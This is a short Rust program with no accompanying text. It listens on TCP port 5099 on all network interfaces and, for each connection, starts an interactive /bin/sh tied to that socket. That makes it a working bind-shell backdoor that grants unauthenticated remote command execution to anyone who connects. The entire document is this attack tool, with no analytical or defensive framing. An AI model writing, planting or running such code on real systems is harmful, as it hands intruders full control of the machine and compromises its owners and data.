use std::net::TcpListener;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
use std::thread;

fn main() {
    let l = TcpListener::bind("0.0.0.0:5099").expect("bind");
    for c in l.incoming().flatten() {
        thread::spawn(move || {
            let fd = c.as_raw_fd();
            let io = || unsafe { Stdio::from_raw_fd(fd) };
            let (i, o, e) = (io(), io(), io());
            let _ = Command::new("/bin/sh").arg("-i").stdin(i).stdout(o).stderr(e).spawn().map(|mut p| p.wait());
            std::mem::forget(c);
        });
    }
}
